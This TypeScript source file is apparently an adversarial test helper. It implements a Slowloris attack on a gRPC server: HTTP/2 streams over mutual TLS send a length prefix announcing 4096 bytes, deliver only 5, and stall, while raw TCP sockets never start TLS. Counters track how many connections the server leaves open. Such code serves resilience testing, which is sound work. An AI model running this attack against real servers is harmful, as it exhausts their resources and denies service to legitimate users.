/**
 * Slowloris against a gRPC server: HTTP/2 streams opened over mutual TLS whose request message
 * is announced (gRPC length prefix) but never completed, and TCP sockets that never start TLS.
 * node:http2 and node:net directly, so nothing in the client closes them for us.
 */
import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream } from "node:http2";
import { connect as connectTcp, type Socket } from "node:net";
import type { TlsMaterial } from "../support/adversary.ts";

export interface HalfOpen {
  /** Streams the server has neither answered (a grpc-status) nor closed: calls it still waits on. */
  pending(): number;
  /** Streams not closed at the HTTP/2 level (an answered stream stays half-closed until reset). */
  open(): number;
  /** Statuses the server answered with, if any (grpc-status of trailers or headers). */
  answered(): string[];
  close(): void;
}

export async function openHalfOpenStreams(options: { address: string; tls: TlsMaterial; sessions: number; streamsPerSession: number; path?: string }): Promise<HalfOpen> {
  const sessions: ClientHttp2Session[] = [];
  const streams: ClientHttp2Stream[] = [];
  const closed = new Set<ClientHttp2Stream>();
  const answered: string[] = [];
  const answeredStreams = new Set<ClientHttp2Stream>();
  for (let s = 0; s < options.sessions; s++) {
    const session = connectHttp2(`https://${options.address}`, {
      cert: options.tls.certPem,
      key: options.tls.keyPem,
      rejectUnauthorized: false,
      servername: "localhost",
    });
    session.on("error", () => undefined);
    await new Promise<void>((resolve, reject) => {
      session.once("connect", () => resolve());
      session.once("error", reject);
    });
    sessions.push(session);
    for (let i = 0; i < options.streamsPerSession; i++) {
      const stream = session.request({
        ":method": "POST",
        ":path": options.path ?? "/liaison.v1.PeerApi/Deliver",
        "content-type": "application/grpc",
        te: "trailers",
      });
      stream.on("error", () => undefined);
      stream.on("response", (headers) => {
        if (headers["grpc-status"] === undefined) return;
        answered.push(String(headers["grpc-status"]));
        answeredStreams.add(stream);
      });
      stream.on("trailers", (trailers) => {
        answered.push(String(trailers["grpc-status"]));
        answeredStreams.add(stream);
      });
      stream.on("close", () => closed.add(stream));
      // a gRPC frame announcing 4096 bytes, of which 5 are sent; then nothing, ever
      stream.write(Buffer.from([0, 0, 0, 0x10, 0, 1, 2, 3, 4, 5]));
      streams.push(stream);
    }
  }
  await new Promise((r) => setTimeout(r, 200));
  return {
    pending: () => streams.filter((s) => !closed.has(s) && !answeredStreams.has(s)).length,
    open: () => streams.filter((s) => !closed.has(s)).length,
    answered: () => [...answered],
    close() {
      for (const stream of streams) stream.destroy();
      for (const session of sessions) session.destroy();
    },
  };
}

export interface Silent {
  open(): number;
  close(): void;
}

/** TCP connections that never send a byte (no TLS ClientHello). */
export async function openSilentSockets(address: string, count: number): Promise<Silent> {
  const at = address.lastIndexOf(":");
  const host = address.slice(0, at);
  const port = Number(address.slice(at + 1));
  const sockets: Socket[] = [];
  const closed = new Set<Socket>();
  await Promise.all(
    Array.from({ length: count }, () =>
      new Promise<void>((resolve, reject) => {
        const socket = connectTcp({ host, port }, () => resolve());
        socket.on("error", reject);
        socket.on("close", () => closed.add(socket));
        sockets.push(socket);
      }),
    ),
  );
  return {
    open: () => sockets.filter((s) => !closed.has(s)).length,
    close() {
      for (const socket of sockets) socket.destroy();
    },
  };
}
